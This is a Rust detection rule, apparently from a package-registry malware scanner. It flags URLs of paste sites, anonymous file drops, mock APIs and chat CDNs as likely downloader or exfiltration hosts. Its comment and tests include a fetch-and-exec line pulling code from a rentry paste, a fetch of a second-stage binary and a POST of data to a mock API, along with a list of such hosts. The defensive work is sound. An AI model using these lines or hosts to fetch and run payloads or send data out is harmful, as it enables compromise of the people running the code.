//! `SA-030` paste or file-drop host (threat). Finds URLs of services where anyone can put a
//! payload or collect data without an account a registry could trace: paste sites (`pastebin`
//! raw pages, `rentry`, `paste.ee`, `hastebin`), anonymous file drops (`transfer.sh`,
//! `gofile`, `catbox`, `0x0.st`), free mock APIs (`mockapi.io`), public object buckets
//! (`*.r2.dev`) and chat attachments (Discord's CDN).
//!
//! Why: a second stage fetched from a paste, or data posted to a mock API, moves the payload
//! out of the archive a registry scans. Example:
//! `exec(urlopen('https://rentry.co/abc/raw').read())`. Known false positives: tools built
//! for these services (a pastebin client) and documentation naming them; a threat of low
//! weight, it makes a verdict only with what runs it at install or import.

use super::{Ctx, Hit, Kind, Rule};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule = Rule {
    id: "SA-030",
    name: "paste or file-drop host",
    kind: Kind::Threat,
    behaviour: Behaviour::Downloader,
    weight: 4,
};

/// Hosts (and for paste sites, the raw-page path) matched in a URL's text.
const HOSTS: &[&str] = &[
    "pastebin.com/raw",
    "pastebin.com/dl",
    "rentry.co/",
    "rentry.org/",
    "paste.ee/r/",
    "paste.ee/d/",
    "hastebin.com/raw",
    "hastebin.skyra.pw",
    "ghostbin.",
    "controlc.com",
    "dpaste.org",
    "dpaste.com",
    "termbin.com",
    "paste.bingner.com",
    "pastes.io",
    "justpaste.it",
    "paste.c-net.org",
    "transfer.sh",
    "anonfiles.com",
    "gofile.io",
    "file.io",
    "catbox.moe",
    "0x0.st",
    "filebin.net",
    "bashupload.com",
    "temp.sh",
    "mockapi.io",
    ".r2.dev",
    "cdn.discordapp.com/attachments",
    "media.discordapp.net/attachments",
];

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let found = ctx.facts.strings.iter().find_map(|(s, line)| {
        let lower = s.to_ascii_lowercase();
        let at = lower.find("://")?;
        let url = &lower[at..];
        // A host matches whole: after `://` or a dot, never inside a longer name.
        let whole = |h: &str| {
            url.match_indices(h).any(|(i, _)| h.starts_with('.') || matches!(url.as_bytes()[i - 1], b'/' | b'.'))
        };
        HOSTS.iter().find(|h| whole(h)).map(|h| (s, *line, *h))
    });
    if let Some((s, line, host)) = found {
        out.push(
            Hit::new(&RULE, line, format!("URL of {}", host.trim_start_matches('.').trim_end_matches('/')))
                .naming(s.chars().take(200).collect::<String>()),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn fires_on_paste_and_drop_urls() {
        let src = "from urllib.request import urlopen\nexec(urlopen('https://rentry.co/x7q/raw').read())\n";
        assert!(fired("a.py", src, LIBRARY).contains(&"SA-030"));
        assert!(fired("a.js", "fetch('https://pub-1a2b.r2.dev/stage2.bin')", LIBRARY).contains(&"SA-030"));
        assert!(fired("a.py", "requests.post('https://abcdef.mockapi.io/t', data)\n", LIBRARY).contains(&"SA-030"));
    }

    #[test]
    fn near_misses() {
        // The service named in prose, or a host that merely resembles one.
        assert!(!fired("a.py", "'''Upload logs to pastebin.com yourself.'''\n", LIBRARY).contains(&"SA-030"));
        assert!(!fired("a.js", "fetch('https://profile.io/user')", LIBRARY).contains(&"SA-030"));
    }
}
